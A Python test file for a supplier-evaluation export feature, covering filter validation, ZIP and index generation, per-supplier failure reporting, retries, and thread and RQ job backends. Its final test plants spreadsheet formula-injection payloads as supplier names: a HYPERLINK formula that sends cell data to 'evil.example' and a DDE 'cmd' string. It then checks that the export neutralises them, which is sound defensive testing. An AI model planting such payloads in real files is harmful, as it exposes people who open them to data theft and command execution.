"""Periodic exports as background jobs: filters, ZIP and index, failures, retry; in-process and on RQ."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook

from supplychain import jobs, regions
from supplychain.errors import ValidationFailed
from supplychain.models import BackgroundJob, ScorecardIssue
from supplychain.services.evaluation import exports, scorecards
from tests.factories import gen_category, gen_supplier, gen_user
from tests.redis_support import empty_queue, redis_url, work_burst
from tests.report_factories import gen_final_evaluation

TODAY = date(2026, 11, 21)


@pytest.fixture
def export_folder(app, tmp_path):
    """Exports of this test go to a folder of their own, in parts of two evaluations."""
    old = {k: app.config.get(k) for k in ("EXPORT_FOLDER", "EXPORT_PART_SIZE", "REDIS_URL")}
    app.config.update(EXPORT_FOLDER=str(tmp_path / "exports"), EXPORT_PART_SIZE=2, REDIS_URL=None)
    yield tmp_path / "exports"
    app.config.update(old)


@pytest.fixture
def dataset(session):
    """Five final 2024 evaluations (equipment ×3, one south-west excellent; logistics ×2), one 2023."""
    equipment = gen_category(session, "equipment", "设备", "Equipment")
    logistics = gen_category(session, "logistics", "物流", "Logistics")
    made = []
    for i, (category, province, grade) in enumerate(
        [
            (equipment, "500000", "excellent"),
            (equipment, "310000", "qualified"),
            (equipment, "310000", "qualified"),
            (logistics, "500000", "conditional"),
            (logistics, "440000", "qualified"),
        ]
    ):
        supplier = gen_supplier(
            session,
            status="qualified",
            name_zh=f"导出测试供应商{i}有限公司",
            province=province,
            categories=[category.code],
        )
        made.append(
            gen_final_evaluation(session, supplier, category=category, grade=grade, total=95 - 10 * i)
        )
    gen_final_evaluation(session, made[0].supplier, year=2023, category=equipment)
    draft_supplier = gen_supplier(session, status="qualified", categories=["equipment"])
    gen_final_evaluation(session, draft_supplier, status="submitted")
    session.commit()
    return made


def _run(session, app, params, actor=None):
    job = jobs.create_inline(session, exports.KIND, {**params, "base_url": "https://esg.example.com"}, actor)
    return jobs.run_inline(session, app, job.id)


def test_parse_filters_reports_every_bad_field(session, dataset):
    with pytest.raises(ValidationFailed) as failed:
        exports.parse_filters(
            session,
            {"period": "2027", "category": "nope", "region": "mars", "grade": "A+", "language": "fr"},
            TODAY,
        )
    assert set(failed.value.errors) == {"period", "category", "region", "grade", "language"}
    assert exports.parse_filters(session, {"period": "2024h1"}, TODAY).period == "2024-H1"
    assert exports.parse_filters(session, {"period": " 2024 Q3 "}, TODAY).range.end == date(2024, 9, 30)
    for bad in ("", "24", "2024-H3", "2024-Q5", "1999", "2026-Q4x", "2027-Q1"):
        with pytest.raises(ValidationFailed):
            exports.parse_filters(session, {"period": bad}, TODAY)


def test_matching_ids_filters(session, dataset):
    def ids(**raw):
        return exports.matching_ids(session, exports.parse_filters(session, {"period": "2024", **raw}, TODAY))

    assert sorted(ids()) == sorted(e.id for e in dataset)
    assert sorted(ids(category="logistics")) == sorted(e.id for e in dataset[3:])
    assert sorted(ids(region="southwest")) == sorted([dataset[0].id, dataset[3].id])
    assert ids(grade="excellent") == [dataset[0].id]
    assert ids(period="2024-H1") == []  # annual evaluations are not inside a half-year


def test_export_in_process_zip_index_and_codes(session, app, dataset, export_folder):
    job = _run(session, app, {"period": "2024", "language": "both"})
    assert job.status == "finished", job.error
    assert (job.progress_done, job.progress_total) == (5, 5)
    assert job.result["exported"] == 5 and job.result["failures"] == []
    path = exports.output_file(job, export_folder)
    with zipfile.ZipFile(path) as archive:
        names = archive.namelist()
        assert sum(n.startswith("scorecards/") for n in names) == 5
        rows = list(csv.DictReader(io.StringIO(archive.read("index.csv").decode("utf-8-sig"))))
        book = load_workbook(io.BytesIO(archive.read("index.xlsx")))
        assert "failures.csv" not in names
        assert {r["file"] for r in rows} <= set(names)
    assert sorted(int(r["evaluation_id"]) for r in rows) == sorted(e.id for e in dataset)
    # Names, not keys, in the index (issue 13, D9).
    assert {r["region"] for r in rows} <= {f"{g.name_zh} {g.name_en}" for g in regions.REGIONS}
    assert all(r["kind"] in ("年度评审 Annual evaluation", "准入评审 Admission review") for r in rows)
    assert book["index"].max_row == 6
    # Every code in the index is stored and verifies.
    for row in rows:
        assert scorecards.verify(session, row["verification_code"]).verified
    assert session.query(ScorecardIssue).count() == 5
    assert not list((export_folder / f"job-{job.id}").glob("attempt-*"))  # working files cleaned up


def test_empty_period_is_a_plain_empty_result(session, app, dataset, export_folder):
    job = _run(session, app, {"period": "2022"})
    assert job.status == "finished" and job.result["count"] == 0 and job.result["empty"]
    assert job.output_path is None and exports.output_file(job, export_folder) is None


def test_a_failing_supplier_is_listed_not_skipped(session, app, dataset, export_folder, monkeypatch):
    bad = dataset[1]
    real = scorecards.render

    def render(card, langs, settings):
        if card.evaluation_id == bad.id:
            raise RuntimeError("font exploded")
        return real(card, langs, settings)

    monkeypatch.setattr(scorecards, "render", render)
    job = _run(session, app, {"period": "2024"})
    assert job.status == "finished"
    assert job.result["exported"] == 4 and job.result["failed"] == 1
    failure = job.result["failures"][0]
    assert failure["evaluation_id"] == bad.id and failure["supplier_id"] == bad.supplier_id
    assert "font exploded" in failure["error"] and failure["supplier_name_zh"] == bad.supplier.name_zh
    assert job.progress_done == 5
    with zipfile.ZipFile(exports.output_file(job, export_folder)) as archive:
        assert "font exploded" in archive.read("failures.csv").decode("utf-8-sig")
    assert jobs.can_retry(job)
    # Retried once the cause is gone: everything exported.
    monkeypatch.setattr(scorecards, "render", real)
    jobs.retry(session, app, job)
    assert jobs.wait(job.id, 60)
    session.expire_all()
    job = session.get(BackgroundJob, job.id)
    assert job.status == "finished" and job.attempts == 2 and job.result["failed"] == 0


def test_a_failed_job_can_be_retried(session, app, dataset, export_folder, monkeypatch):
    def broken_plan(*args, **kwargs):
        raise OSError("export folder not writable")

    monkeypatch.setattr(exports, "plan", broken_plan)
    job = _run(session, app, {"period": "2024"})
    assert job.status == "failed" and "not writable" in job.error
    monkeypatch.undo()
    app.config.update(EXPORT_FOLDER=str(export_folder), EXPORT_PART_SIZE=2, REDIS_URL=None)
    user = gen_user(session, "procurement")
    session.commit()
    jobs.retry(session, app, job)  # no Redis: the thread backend
    assert jobs.wait(job.id, 60)
    session.expire_all()
    job = session.get(BackgroundJob, job.id)
    assert job.status == "finished" and job.result["exported"] == 5 and job.backend == "thread"
    assert user.id  # the retry needs no particular user
    with pytest.raises(ValueError):
        jobs.retry(session, app, job)  # finished without failures: nothing to retry


def test_background_thread(session, app, dataset, export_folder):
    with app.test_request_context():
        job = jobs.enqueue(session, app, exports.KIND, {"period": "2024", "category": "logistics"}, None)
    assert job.backend == "thread"
    assert jobs.wait(job.id, 60)
    session.expire_all()
    job = session.get(BackgroundJob, job.id)
    assert job.status == "finished" and job.result["exported"] == 2



def test_export_on_rq_workers(session, app, dataset, export_folder):
    """Parts and assembly as RQ jobs, run by a burst SimpleWorker in this process."""
    url = redis_url()
    queue = empty_queue(url)
    app.config["REDIS_URL"] = url
    with app.test_request_context():
        job = jobs.enqueue(
            session, app, exports.KIND, {"period": "2024", "base_url": "https://esg.example.com"}, None
        )
    assert job.backend == "rq" and job.status == "queued"
    work_burst(app, session, queue)
    job = session.get(BackgroundJob, job.id)
    assert job.status == "finished", job.error
    assert (job.progress_done, job.progress_total) == (5, 5)
    assert job.result["exported"] == 5 and job.result["failed"] == 0
    with zipfile.ZipFile(exports.output_file(job, export_folder)) as archive:
        assert sum(n.startswith("scorecards/") for n in archive.namelist()) == 5
    # Three parts of two: the progress of every part counted.
    assert Path(export_folder / f"job-{job.id}").is_dir()


def test_unreachable_queue_fails_the_job_plainly(session, app, dataset, export_folder):
    app.config["REDIS_URL"] = "redis://127.0.0.1:1/0"
    with app.test_request_context():
        job = jobs.enqueue(session, app, exports.KIND, {"period": "2024"}, None)
    assert job.status == "failed" and "queue unreachable" in job.error


def test_no_cell_of_the_index_is_a_formula(session, app, dataset, export_folder):
    """A name that reached the registry before names were checked (`=HYPERLINK(…)`, `@SUM(…)`) lands in
    index.csv as text with a leading apostrophe and in index.xlsx as a text cell, never a formula."""
    from supplychain.models import Supplier

    session.get(Supplier, dataset[0].supplier_id).name_zh = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
    session.get(Supplier, dataset[1].supplier_id).name_en = "@SUM(1+1)*cmd|' /C calc'!A0"
    session.commit()
    job = _run(session, app, {"period": "2024", "language": "zh"})
    assert job.status == "finished", job.error
    with zipfile.ZipFile(exports.output_file(job, export_folder)) as archive:
        text = archive.read("index.csv").decode("utf-8-sig")
        book = load_workbook(io.BytesIO(archive.read("index.xlsx")))
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")]
    values = [cell for row in book["index"].iter_rows() for cell in row]
    assert not [c.coordinate for c in values if c.data_type == "f"]
    assert any(c.value == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")" for c in values)
